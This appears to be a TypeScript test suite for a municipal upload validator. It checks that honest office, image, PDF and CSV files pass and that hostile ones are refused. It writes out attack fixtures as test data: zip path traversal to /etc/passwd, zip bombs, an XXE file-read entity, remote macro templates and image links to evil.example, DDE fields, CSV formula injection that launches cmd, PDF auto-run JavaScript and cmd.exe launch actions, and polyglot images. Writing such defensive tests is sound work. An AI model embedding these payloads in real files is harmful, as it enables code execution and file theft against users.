/** What is asked of a file before it is stored: honest ones pass, every trick is refused with its reason. */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { examine } from '../../client/documents/examine.ts';
import { CSV, DOCX, JPEG, type MediaType, ODT, PDF, PNG, XLSX } from '../../domain/guideline/document-formats.ts';
import { makeZip } from './make-zip.ts';
import * as sample from './sample-files.ts';

const { docx, docxParts, odt, odtParts, xlsx, xlsxParts, relationships, relationship } = sample;

async function codeOf(declared: string, plain: Buffer): Promise<string> {
  const examined = await examine({ plain, declared, ownNames: [] });
  return examined.kind === 'fit' ? 'fit' : examined.refusal.code;
}

test.each<[MediaType, () => Buffer | Promise<Buffer>]>([
  [PDF, () => sample.pdf()],
  [PDF, () => readFileSync(new URL('../../examples/muelheim/anschreiben.pdf', import.meta.url))],
  [PNG, () => sample.png()],
  [JPEG, () => sample.jpeg()],
  [DOCX, () => docx()],
  [
    DOCX,
    () =>
      docx(undefined, {
        name: 'word/_rels/document.xml.rels',
        content: relationships(relationship('hyperlink', 'https://muelheim.example', 'TargetMode="External"')),
      }),
  ],
  [ODT, () => odt('<text:p><text:a xlink:href="https://muelheim.example">Link</text:a></text:p>')],
  [XLSX, () => xlsx()],
  [CSV, () => sample.csv()],
  [CSV, () => Buffer.from('\ufeffStraße;Anzahl\nBeispielweg;4\n')],
  [CSV, () => Buffer.from('Straße;Anzahl\nBeispielweg;4\n', 'latin1')],
  [CSV, () => Buffer.from('\ufeffStadtteil\tAnzahl\nSaarn\t4\n', 'utf16le')],
  [CSV, () => Buffer.from('\ufeffStadtteil\tAnzahl\nSaarn\t4\n', 'utf16le').swap16()],
  [CSV, () => Buffer.from('"Stadtteil, Bezirk",Anzahl\n"Saarn, Süd",4\n')],
  [CSV, () => Buffer.from('Jahr;Saldo\n2020;-4\n2021;+5\n2022;- keine Angabe\n')],
])('an honest %s passes', async (declared, plain) => {
  expect(await codeOf(declared, await plain())).toBe('fit');
});

const all = async (): Promise<readonly (readonly [MediaType, Buffer])[]> => [
  [PDF, await sample.pdf()],
  [PNG, sample.png()],
  [JPEG, sample.jpeg()],
  [DOCX, docx()],
  [ODT, odt()],
  [XLSX, xlsx()],
  [CSV, sample.csv()],
];

test('what a file is, its content says: announced as anything else it is refused', async () => {
  for (const [format, plain] of await all())
    for (const [declared] of await all())
      expect([format, declared, await codeOf(declared, plain)]).toEqual([
        format,
        declared,
        format === declared ? 'fit' : 'format-not-as-declared',
      ]);
  expect(await codeOf('application/zip', docx())).toBe('format-not-accepted');
});

test('half a file of any format is refused', async () => {
  const others: string[] = [];
  for (const [format, plain] of await all()) {
    // A table that ends earlier is a table.
    if (format === CSV) continue;
    for (const part of [0.3, 0.6, 0.9, 0.99]) {
      const code = await codeOf(format, plain.subarray(0, Math.floor(plain.length * part)));
      if (!['document-broken', 'format-unknown'].includes(code)) others.push(`${format} ${part} ${code}`);
    }
  }
  expect(others).toEqual([]);
});

test('whatever bytes come, there is an answer and no error', async () => {
  const seeds = await all();
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...seeds),
      fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 0, max: 255 })), {
        minLength: 1,
        maxLength: 8,
      }),
      async ([format, plain], changes) => {
        const spoilt = Buffer.from(plain);
        for (const [place, value] of changes) spoilt[Math.floor(place * spoilt.length)] = value;
        expect(await codeOf(format, spoilt)).toMatch(/^[a-z-]+$/);
      },
    ),
    { numRuns: 150 },
  );
});

const zip = (...names: readonly string[]) => names.map((name) => ({ name, content: 'x' }));
const bomb = Buffer.alloc(30 * 1024 * 1024);

test.each<[string, Buffer, string]>([
  [
    'too many entries',
    makeZip([...docxParts(), ...Array.from({ length: 2_001 }, (_, n) => ({ name: `w/${n}`, content: '' }))]),
    'document-inflates',
  ],
  ['an entry that swells', docx(undefined, { name: 'word/media/a.bin', content: bomb }), 'document-inflates'],
  [
    'many that swell together',
    docx(
      undefined,
      ...Array.from({ length: 90 }, (_, n) => ({ name: `w/${n}`, content: Buffer.alloc(1024 * 1024, n) })),
    ),
    'document-inflates',
  ],
  [
    'a size that lies',
    docx(undefined, { name: 'word/a.xml', content: 'x'.repeat(100_000), claims: { size: 10 } }),
    'document-broken',
  ],
  [
    'a checksum that lies',
    docx(undefined, { name: 'word/a.xml', content: 'x', claims: { crc: 1 } }),
    'document-broken',
  ],
  [
    'entries in one place',
    docx(undefined, {
      name: '[Content_Types]2.xml',
      localName: '[Content_Types].xml',
      content: docxParts()[0]?.content ?? '',
      overlaps: true,
    }),
    'document-ambiguous',
  ],
  [
    'another name in the entry itself',
    docx(undefined, { name: 'word/a.xml', localName: 'word/b.xml', content: '<a/>' }),
    'document-ambiguous',
  ],
  ['an entry twice', docx(undefined, { name: 'WORD/document.xml', content: '<a/>' }), 'document-ambiguous'],
  ['an archive within', docx(undefined, { name: 'word/a.bin', content: docx() }), 'document-embeds-files'],
  [
    'an encrypted entry',
    docx(undefined, { name: 'word/a.xml', content: 'x', claims: { flags: 0x801 } }),
    'document-locked',
  ],
  [
    'another compression',
    docx(undefined, { name: 'word/a.xml', content: 'x', claims: { method: 12 } }),
    'document-broken',
  ],
  ['a way out', docx(undefined, ...zip('../../etc/passwd')), 'document-broken'],
  ['a way out for Windows', docx(undefined, ...zip('..\\evil.exe')), 'document-broken'],
  ['an absolute place', docx(undefined, ...zip('/etc/passwd')), 'document-broken'],
  ['a drive', docx(undefined, ...zip('C:/evil.exe')), 'document-broken'],
  ['a NUL in a name', docx(undefined, ...zip('word/a\u0000.xml')), 'document-broken'],
  ['a turned name', docx(undefined, ...zip('word/\u202Elmx.exe')), 'document-broken'],
  ['an endless name', docx(undefined, ...zip('w'.repeat(201))), 'document-broken'],
  ['something before', makeZip(docxParts(), { before: '<html>' }), 'format-unknown'],
  ['something behind', Buffer.concat([docx(), Buffer.from('<html>')]), 'document-broken'],
  ['a comment', makeZip(docxParts(), { comment: '<script>' }), 'document-ambiguous'],
  ['an archive of something else', makeZip(zip('a.txt')), 'format-unknown'],
  ['two formats at once', makeZip([...odtParts(), ...docxParts()]), 'document-ambiguous'],
])('an archive with %s is refused', async (_what, plain, code) => {
  const found = await codeOf(DOCX, plain);
  // What is before a zip makes it something else altogether.
  expect(code === 'format-unknown' ? ['format-unknown', 'format-not-as-declared'] : [code]).toContain(found);
});

const rels = (...inner: readonly string[]) => ({
  name: 'word/_rels/settings.xml.rels',
  content: relationships(...inner),
});
test.each<[string, MediaType, Buffer, string]>([
  [
    'macros by their type',
    DOCX,
    makeZip([
      {
        name: '[Content_Types].xml',
        content: sample.contentTypes(['/word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml']),
      },
      ...docxParts().slice(1),
    ]),
    'document-active',
  ],
  ['macros by their part', DOCX, docx(undefined, ...zip('word/vbaProject.bin')), 'document-active'],
  ['a control', DOCX, docx(undefined, ...zip('word/activeX/activeX1.xml')), 'document-active'],
  [
    'an OLE object',
    DOCX,
    docx(undefined, { name: 'word/media/a.bin', content: Buffer.from('d0cf11e0a1b11ae100', 'hex') }),
    'document-active',
  ],
  ['an embedded workbook', DOCX, docx(undefined, ...zip('word/embeddings/a.xlsx')), 'document-embeds-files'],
  [
    'a template from outside',
    DOCX,
    docx(undefined, rels(relationship('attachedTemplate', 'https://evil.example/t.dotm', 'TargetMode="External"'))),
    'document-external',
  ],
  [
    'one that hides',
    DOCX,
    docx(undefined, rels(relationship('image', 'https://evil.example/i', "TargetMode = '&#69;xternal'"))),
    'document-external',
  ],
  [
    'a field that starts something',
    DOCX,
    docx('<w:p><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:p>'),
    'document-active',
  ],
  [
    'an entity',
    DOCX,
    docx(undefined, {
      name: 'word/a.xml',
      content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
    'document-broken',
  ],
  [
    'links to other workbooks',
    XLSX,
    xlsx(undefined, ...zip('xl/externalLinks/externalLink1.xml')),
    'document-external',
  ],
  ['connections', XLSX, xlsx(undefined, ...zip('xl/connections.xml')), 'document-external'],
  [
    'records behind a pivot table',
    XLSX,
    xlsx(undefined, ...zip('xl/pivotCache/pivotCacheRecords1.xml')),
    'list-of-persons',
  ],
  ['scripts', ODT, odt(undefined, ...zip('Basic/Standard/Module1.xml')), 'document-active'],
  ['listeners', ODT, odt('<script:event-listener/>'), 'document-active'],
  ['objects', ODT, odt(undefined, ...zip('Object 1/content.xml')), 'document-embeds-files'],
  ['pictures from outside', ODT, odt('<draw:image xlink:href="https://evil.example/i.png"/>'), 'document-external'],
  [
    'encryption',
    ODT,
    odt(undefined, { name: 'META-INF/x.xml', content: '<manifest:encryption-data/>' }),
    'document-locked',
  ],
  ['a password', DOCX, Buffer.from('d0cf11e0a1b11ae1000000', 'hex'), 'document-locked'],
])('an office file with %s is refused', async (_what, declared, plain, code) => {
  expect(await codeOf(declared, plain)).toBe(code);
});

const PERSONS: sample.Sheet = [
  ['Vorname', 'Nachname'],
  ['Xu', 'Qi'],
  ['Yi', 'Wu'],
  ['Anna', 'Beispiel'],
];
test.each<[string, MediaType, Buffer]>([
  ['a CSV', CSV, sample.csv(PERSONS)],
  ['a CSV of Windows', CSV, Buffer.from('Vorname;Straße\nJörg;Beispielstraße 3\n', 'latin1')],
  ['a workbook', XLSX, xlsx([PERSONS])],
  ['a second sheet', XLSX, xlsx([sample.DISTRICTS, PERSONS])],
  ['a hidden sheet', XLSX, makeZip(xlsxParts([sample.DISTRICTS, PERSONS], [1]))],
  ['a table in a text', DOCX, docx(sample.wordTable(PERSONS.map((row) => row.map(String))))],
  [
    'a table in an ODT',
    ODT,
    odt(
      `<table:table>${PERSONS.map((row) => `<table:table-row>${row.map((cell) => `<table:table-cell><text:p>${cell}</text:p></table:table-cell>`).join('')}</table:table-row>`).join('')}</table:table>`,
    ),
  ],
])('L9: %s that lists persons is refused, and no value is repeated', async (_what, declared, plain) => {
  const examined = await examine({ plain, declared, ownNames: [] });
  if (examined.kind === 'fit') throw new Error('it was taken');
  expect(examined.refusal).toMatchObject({ code: 'list-of-persons', rule: 'L9' });
  expect(examined.refusal.message.de).toMatch(/Spalte A \(Vornamen\)/);
  expect(JSON.stringify(examined.refusal)).not.toMatch(/Qi|Wu|Anna|Beispiel|Jörg/);
});

test.each<[string, string, string]>([
  ['HTML', '<html><body>;1\nx;2', 'document-active'],
  ['a script in a cell', 'Stadtteil;Anzahl\n"<script>alert(1)</script>";2', 'document-active'],
  ['a formula', 'Stadtteil;Anzahl\n"=HYPERLINK(""https://evil.example"")";2', 'document-active'],
  ['a command', 'Stadtteil;Anzahl\n"+cmd|\' /C calc\'!A0";2', 'document-active'],
  ['one column', 'Stadtteil\nBroich\nSaarn', 'format-unknown'],
  ['rows of other lengths', 'Stadtteil;Anzahl\nBroich;1;2\nSaarn', 'format-unknown'],
  ['a control character', 'Stadtteil;Anzahl\nBro\u0007ich;1', 'format-unknown'],
  ['only a heading', 'Stadtteil;Anzahl', 'format-unknown'],
])('a CSV with %s is refused', async (_what, text, code) => {
  expect(await codeOf(CSV, Buffer.from(text))).toBe(code);
});

const archive = makeZip(zip('a.class'));
test.each<[string, MediaType, Buffer, string]>([
  ['a JPEG that is a zip as well', JPEG, Buffer.concat([sample.jpeg(), archive]), 'document-ambiguous'],
  ['a PNG that is a zip as well', PNG, Buffer.concat([sample.png(), archive]), 'document-ambiguous'],
  ['a PNG with something behind', PNG, Buffer.concat([sample.png(), Buffer.from('x')]), 'document-ambiguous'],
  [
    'a GIF that is a JAR',
    PNG,
    Buffer.concat([Buffer.from('GIF89a\u0001\0\u0001\0\0\0\0;', 'latin1'), archive]),
    'format-unknown',
  ],
  ['a PNG of 10^9 pixels', PNG, sample.png({ width: 40_000, height: 25_000 }), 'image-too-large'],
  ['a PNG without a size', PNG, sample.png({ width: 0 }), 'image-too-large'],
  [
    'a PNG with a wrong checksum',
    PNG,
    (() => {
      const bytes = sample.png();
      bytes[30] = (bytes[30] ?? 0) ^ 1;
      return bytes;
    })(),
    'document-broken',
  ],
  ['a JPEG of 10^9 pixels', JPEG, sample.jpeg({ width: 60_000, height: 60_000 }), 'image-too-large'],
  ['an SVG', PNG, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), 'format-unknown'],
])('%s is refused', async (_what, declared, plain, code) => {
  const found = await codeOf(declared, plain);
  expect(code === 'format-unknown' ? ['format-unknown', 'format-not-as-declared'] : [code]).toContain(found);
});

test('where and by whom a picture was taken is left out; how it is turned and its colours stay', async () => {
  const icc = sample.jpegSegment(0xe2, Buffer.from('ICC_PROFILE\0colours', 'latin1'));
  const plain = sample.jpeg({ segments: [sample.exif(6), icc, sample.jpegSegment(0xfe, Buffer.from('Karla'))] });
  const examined = await examine({ plain, declared: JPEG, ownNames: [] });
  if (examined.kind !== 'fit' || !examined.cleaned) throw new Error('not cleaned');
  const cleaned = Buffer.from(examined.cleaned);
  expect(cleaned.toString('latin1')).not.toMatch(/GPS|Karla/);
  expect(cleaned.toString('latin1')).toMatch(/ICC_PROFILE/);
  expect(cleaned.includes(Buffer.from('01120003000000010006', 'hex'))).toBe(true);
  expect(await codeOf(JPEG, cleaned)).toBe('fit');

  const text = sample.png({
    chunks: [sample.pngChunk('tEXt', Buffer.from('Author\0Karla')), sample.pngChunk('eXIf', Buffer.from('GPS'))],
  });
  const png = await examine({ plain: text, declared: PNG, ownNames: [] });
  if (png.kind !== 'fit' || !png.cleaned) throw new Error('not cleaned');
  expect(Buffer.from(png.cleaned).equals(sample.png())).toBe(true);
  expect(await examine({ plain: sample.jpeg(), declared: JPEG, ownNames: [] })).not.toHaveProperty('cleaned');
});

const raw = (objects: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${objects}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );
const hidden = (objects: string) => {
  const packed = deflateSync(Buffer.from(objects));
  return Buffer.concat([
    raw('').subarray(0, -5),
    Buffer.from(`9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
    packed,
    Buffer.from('\nendstream endobj\n%%EOF'),
  ]);
};

test.each<[string, () => Buffer | Promise<Buffer>, string]>([
  ['a script', () => raw('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'document-active'],
  ['a script that hides its name', () => raw('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'), 'document-active'],
  ['a script in an object stream', () => hidden('9 0 <</S/JavaScript/JS(x)>>'), 'document-active'],
  ['a program to start', () => raw('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'document-active'],
  ['a form with scripts', () => raw('/AcroForm<</XFA 4 0 R>>'), 'document-active'],
  [
    'an embedded file',
    () => sample.pdf((document) => void document.file(Buffer.from('x'), { name: 'x.exe' })),
    'document-embeds-files',
  ],
  ['a password', () => sample.pdf(undefined, { userPassword: 'geheim' }), 'document-locked'],
  ['restrictions', () => sample.pdf(undefined, { ownerPassword: 'geheim' }), 'document-locked'],
  ['a zip behind', async () => Buffer.concat([await sample.pdf(), archive]), 'document-ambiguous'],
  [
    'a page of HTML behind',
    async () => Buffer.concat([await sample.pdf(), Buffer.alloc(2_000, '<html>')]),
    'document-ambiguous',
  ],
  ['something before', async () => Buffer.concat([Buffer.from('GIF89a'), await sample.pdf()]), 'format-unknown'],
  ['no end', async () => (await sample.pdf()).subarray(0, 500), 'document-broken'],
])('a PDF with %s is refused', async (_what, plain, code) => {
  expect(await codeOf(PDF, await plain())).toBe(code);
});

test('a PDF with a link and a page to open at passes', async () => {
  expect(
    await codeOf(
      PDF,
      await sample.pdf((document) => void document.text('Stadt', { link: 'https://muelheim.example' })),
    ),
  ).toBe('fit');
  expect(await codeOf(PDF, raw('/OpenAction[3 0 R/Fit]'))).toBe('fit');
});
